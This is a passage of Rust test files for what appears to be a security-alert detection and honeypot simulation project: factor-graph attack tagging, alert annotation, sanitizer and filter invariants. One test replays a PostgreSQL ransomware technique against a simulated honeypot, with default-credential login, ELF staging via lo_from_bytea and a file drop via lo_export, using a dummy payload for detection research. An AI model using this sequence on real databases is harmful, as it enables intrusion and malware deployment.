    let timing = mining::compare_phase_timing(&store).expect("both phases present");
    assert!(timing.manual_more_variable());
    assert!(timing.automated.cv < timing.manual.cv);
}

/// §II-A: ≈99.7% of alerts auto-annotate; the rest need experts.
#[test]
fn claim_annotation_coverage() {
    let store = corpus();
    let annotator = alertlib::Annotator::default();
    let mut total = 0u64;
    let mut auto_count = 0u64;
    for inc in store.iter() {
        let (_, r) = annotator.annotate_batch(&inc.alerts, &inc.report);
        total += r.total;
        auto_count += r.auto_annotated;
    }
    let frac = auto_count as f64 / total as f64;
    // Incident alerts are enriched in ambiguous kinds relative to the full
    // stream; even so the bulk must auto-annotate.
    assert!(frac > 0.9, "auto fraction {frac}");
}

/// Insight 2's effective range: by 2–4 session alerts the factor-graph
/// detector has crossed into reliable detection; a single alert never
/// suffices.
#[test]
fn claim_effective_range_two_to_four() {
    let store = corpus();
    // Attack-session view (the entity the detector keys on).
    let mut sessions = alertlib::IncidentStore::new();
    for inc in store.iter() {
        let mut t = alertlib::Incident::new(inc.id, inc.family.clone(), inc.year);
        for a in &inc.alerts {
            if matches!(a.entity, Entity::User(_)) {
                t.push_alert(*a);
            }
        }
        if !t.is_empty() {
            sessions.add(t);
        }
    }
    let model = detect::train::train(
        &store,
        &{
            let mut rng = SimRng::seed(0xBE19);
            scenario::benign_sessions(&mut rng, 400, SimTime::from_date(2024, 1, 1))
        },
        &detect::train::TrainConfig::default(),
    );
    let tagger = AttackTagger::new(model, TaggerConfig::default());
    let sweep = detect::prefix_sweep(&tagger, &sessions, 4);
    assert_eq!(
        sweep[0].1, 0.0,
        "one alert cannot be preempted (sudden attacks)"
    );
    assert!(
        sweep[3].1 > 0.9,
        "four session alerts must be in the effective range"
    );
}

/// §V: the honeypot accepts the advertised default credentials and the
/// three ransomware steps produce exactly the expected observables.
#[test]
fn claim_ransomware_surface() {
    use honeynet::{DeployConfig, HoneynetDeployment};
    let mut topo = simnet::topology::NcsaTopologyBuilder::default().build();
    let mut dep = HoneynetDeployment::install(&mut topo, &DeployConfig::default());
    let entry = dep.entry_addrs()[0];
    let src = "111.200.45.67".parse().unwrap();
    let t = SimTime::from_datetime(2024, 10, 30, 3, 44, 0);
    let (ok, _) = dep.db_connect(t, src, entry, "postgres", "postgres");
    assert!(ok, "default credentials advertised in §IV-B must work");
    let (reply, _) = dep.db_command(t, src, entry, "SHOW server_version_num");
    assert_eq!(reply.as_deref(), Some("90421"), "step 1: version recon");
    let stmt = format!(
        "SELECT lo_from_bytea(0, decode('7f454c46{}','hex'))",
        "00".repeat(32)
    );
    let (_, actions) = dep.db_command(t, src, entry, &stmt);
    assert!(!actions.is_empty(), "step 2: ELF staging observed");
    let (_, actions) = dep.db_command(t, src, entry, "SELECT lo_export(16384, '/tmp/kp')");
    assert!(
        actions
            .iter()
            .any(|(_, a)| matches!(a, Action::FileOp(f) if f.path == "/tmp/kp")),
        "step 3: /tmp/kp dropped"
    );
}

/// §IV-A: the VRT tool's Heartbleed example — input 20140401 resolves the
/// distribution released just before the date with the vulnerable openssl.
#[test]
fn claim_vrt_heartbleed_example() {
    let repo = SnapshotRepo::with_debian_history();
    let snap = repo
        .resolve(SimTime::from_date(2014, 4, 1), &["openssl"])
        .unwrap();
    assert_eq!(snap.release.name, "wheezy");
    assert!(repo
        .vulnerabilities_in(&snap)
        .iter()
        .any(|v| v.name == "Heartbleed"));
}

/// Fig. 2: ~94K alerts/day, ~80K of which are repeated scans.
#[test]
fn claim_fig2_daily_volume() {
    let model = scenario::VolumeModel::default();
    let mut rng = SimRng::seed(5);
    let mut totals = Vec::new();
    for d in 0..30u64 {
        let day = SimTime::from_date(2024, 10, 1) + SimDuration::from_days(d);
        let n = scenario::stream_day(&model, &mut rng, day, &mut |_| {});
        totals.push(n as f64);
    }
    let mean = totals.iter().sum::<f64>() / totals.len() as f64;
    assert!((mean - 94_238.0).abs() < 15_000.0, "daily mean {mean}");
}
