//! Property-based tests on the core invariants (proptest), spanning
//! crates: factor algebra, inference consistency, LCS laws, CIDR
//! containment, filter monotonicity, sanitizer idempotence, BHR expiry.

use attack_tagger::prelude::*;
use factorgraph::sumproduct::{brute_force_marginals, run, BpOptions};
use proptest::prelude::*;

// ---------- factor algebra ----------

fn arb_factor(max_card: usize) -> impl Strategy<Value = Factor> {
    (1usize..=3, 1usize..=max_card).prop_flat_map(|(nvars, _)| {
        proptest::collection::vec(1usize..=3, nvars).prop_flat_map(move |cards| {
            let size: usize = cards.iter().product();
            proptest::collection::vec(0.01f64..10.0, size).prop_map(move |table| {
                let vars = (0..cards.len() as u32).map(factorgraph::VarId).collect();
                Factor::new(vars, cards.clone(), table)
            })
        })
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// Product with a uniform factor preserves values.
    #[test]
    fn factor_product_identity(f in arb_factor(3)) {
        let ones = Factor::uniform(f.vars().to_vec(), f.cards().to_vec());
        let p = f.product(&ones);
        for (a, b) in p.table().iter().zip(f.table()) {
            prop_assert!((a - b).abs() < 1e-12);
        }
    }

    /// Marginalizing to the empty scope sums the whole table, regardless
    /// of intermediate marginalization order.
    #[test]
    fn marginalization_is_order_independent(f in arb_factor(3)) {
        let total: f64 = f.table().iter().sum();
        let direct = f.marginalize(&[]).table()[0];
        prop_assert!((direct - total).abs() < 1e-9 * total.max(1.0));
        if f.vars().len() >= 2 {
            let first = f.vars()[0];
            let step = f.marginalize(&f.vars()[1..]).marginalize(&[]);
            prop_assert!((step.table()[0] - total).abs() < 1e-9 * total.max(1.0));
            let _ = first;
        }
    }

    /// Reduction then summation equals slicing the sum.
    #[test]
    fn reduce_is_a_slice(f in arb_factor(3)) {
        let var = f.vars()[0];
        let card = f.cards()[0];
        let slices: f64 = (0..card)
            .map(|v| f.reduce(var, v).marginalize(&[]).table()[0])
            .sum();
        let total: f64 = f.table().iter().sum();
        prop_assert!((slices - total).abs() < 1e-9 * total.max(1.0));
    }
}

// ---------- inference consistency ----------

proptest! {
    #![proptest_config(ProptestConfig::with_cases(32))]

    /// On random chains, BP == brute force == forward-backward.
    #[test]
    fn chain_inference_agreement(
        seed in 0u64..1_000,
        len in 1usize..6,
    ) {
        let mut rng = SimRng::seed(seed);
        let s = 3usize;
        let o = 4usize;
        let dirich = |rng: &mut SimRng, n: usize| -> Vec<f64> {
            let raw: Vec<f64> = (0..n).map(|_| rng.uniform(0.05, 1.0)).collect();
            let sum: f64 = raw.iter().sum();
            raw.into_iter().map(|x| x / sum).collect()
        };
        let prior = dirich(&mut rng, s);
        let trans: Vec<f64> = (0..s).flat_map(|_| dirich(&mut rng, s)).collect();
        let emit: Vec<f64> = (0..s).flat_map(|_| dirich(&mut rng, o)).collect();
        let m = ChainModel::new(s, o, prior, trans, emit);
        let obs: Vec<usize> = (0..len).map(|_| rng.index(o)).collect();

        let fb = m.posteriors(&obs);
        let g = m.to_factor_graph(&obs);
        let bp = run(&g, &BpOptions::default());
        let exact = brute_force_marginals(&g);
        for t in 0..len {
            for st in 0..s {
                prop_assert!((fb[t][st] - exact[t][st]).abs() < 1e-6,
                    "fb vs exact at t={t} s={st}");
                prop_assert!((bp.marginals[t][st] - exact[t][st]).abs() < 1e-6,
                    "bp vs exact at t={t} s={st}");
            }
        }
        // Viterbi path probability is achievable (matches joint eval).
        let (path, logp) = m.viterbi(&obs);
        let mut p = m.prior()[path[0]] * m.emit(path[0], obs[0]);
        for t in 1..len {
            p *= m.trans(path[t - 1], path[t]) * m.emit(path[t], obs[t]);
        }
        prop_assert!((p.ln() - logp).abs() < 1e-9);
    }
}

// ---------- LCS laws ----------

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    #[test]
    fn lcs_laws(a in proptest::collection::vec(0u8..6, 0..24),
                b in proptest::collection::vec(0u8..6, 0..24)) {
        use mining::{is_subsequence, lcs, lcs_length};
        let l = lcs_length(&a, &b);
        // Symmetry.
        prop_assert_eq!(l, lcs_length(&b, &a));
        // Bounds.
        prop_assert!(l <= a.len().min(b.len()));
        // Reconstruction consistency.
        let s = lcs(&a, &b);
        prop_assert_eq!(s.len(), l);
        prop_assert!(is_subsequence(&s, &a));
        prop_assert!(is_subsequence(&s, &b));
        // Self-LCS is identity.
        prop_assert_eq!(lcs_length(&a, &a), a.len());
    }
}

// ---------- CIDR containment ----------

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn cidr_laws(base in 0u32..=u32::MAX, prefix in 0u8..=32, idx in 0u64..4_096) {
        let cidr = Cidr::new(std::net::Ipv4Addr::from(base), prefix);
        // Every nth address is contained.
        let i = idx % cidr.size();
        prop_assert!(cidr.contains(cidr.nth(i)));
        // Sub-blocks are covered.
        if prefix <= 24 {
            let sub = cidr.subblock(idx % (1 << (24u8.saturating_sub(prefix).min(24))).max(1), 24.max(prefix));
            prop_assert!(cidr.covers(&sub));
        }
    }
}

// ---------- filter monotonicity ----------

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// The scan filter never admits more than it sees, never suppresses
    /// non-noise alerts, and admitted+suppressed == seen.
    #[test]
    fn filter_accounting(kinds in proptest::collection::vec(0usize..alertlib::AlertKind::COUNT, 1..200)) {
        let mut filter = ScanFilter::default();
        let mut admitted = 0u64;
        for (i, k) in kinds.iter().enumerate() {
            let kind = AlertKind::from_index(*k);
            let a = alertlib::Alert::new(
                SimTime::from_secs(i as u64),
                kind,
                Entity::Address("9.9.9.9".parse().unwrap()),
            );
            let ok = filter.admit(&a);
            if ok {
                admitted += 1;
            }
            use alertlib::Severity::*;
            if !matches!(kind.severity(), Noise | Attempt) {
                prop_assert!(ok, "non-dedupable severity must always pass");
            }
        }
        let s = filter.stats();
        prop_assert_eq!(s.admitted, admitted);
        prop_assert_eq!(s.seen, s.admitted + s.suppressed);
    }
}

// ---------- sanitizer idempotence ----------

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    #[test]
    fn sanitize_idempotent(input in "[ -~]{0,80}") {
        let cfg = alertlib::SanitizeConfig::default();
        let once = alertlib::sanitize(&cfg, &input);
        let twice = alertlib::sanitize(&cfg, &once);
        prop_assert_eq!(&once, &twice, "sanitize must be idempotent");
    }

    /// No full IPv4 literal survives sanitization.
    #[test]
    fn sanitize_kills_ips(a in 0u8..=255, b in 0u8..=255, c in 0u8..=255, d in 1u8..=255) {
        let cfg = alertlib::SanitizeConfig::default();
        let msg = format!("conn from {a}.{b}.{c}.{d} closed");
        let out = alertlib::sanitize(&cfg, &msg);
        prop_assert!(out.contains("xxx.yyy"), "expected mask in {out}");
    }
}

// ---------- BHR expiry ----------

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn bhr_blocks_expire_exactly(ttl_secs in 1u64..100_000, probe in 0u64..200_000) {
        let mut table = bhr::NullRouteTable::new();
        let addr: std::net::Ipv4Addr = "10.1.2.3".parse().unwrap();
        table.block(addr, "p", SimTime::from_secs(0), Some(SimDuration::from_secs(ttl_secs)));
        let blocked = table.is_blocked(addr, SimTime::from_secs(probe));
        prop_assert_eq!(blocked, probe < ttl_secs);
    }
}

// ---------- quadtree approximation ----------

proptest! {
    #![proptest_config(ProptestConfig::with_cases(16))]

    /// θ=0 Barnes–Hut equals the exact O(n²) force for random layouts.
    #[test]
    fn quadtree_theta_zero_exact(seed in 0u64..500) {
        use vizgraph::{Body, QuadTree};
        let mut rng = SimRng::seed(seed);
        let bodies: Vec<Body> = (0..64)
            .map(|_| Body {
                x: rng.uniform(-50.0, 50.0),
                y: rng.uniform(-50.0, 50.0),
                mass: rng.uniform(0.5, 2.0),
            })
            .collect();
        let tree = QuadTree::build(&bodies);
        let kernel = |d: f64, m: f64| m / d;
        for i in [0usize, 13, 31, 63] {
            let b = bodies[i];
            let (ax, ay) = tree.force_at(b.x, b.y, 0.0, i as i32, &kernel);
            let (ex, ey) = QuadTree::force_exact(&bodies, b.x, b.y, i as i32, &kernel);
            prop_assert!((ax - ex).abs() < 1e-6);
            prop_assert!((ay - ey).abs() < 1e-6);
        }
    }
}
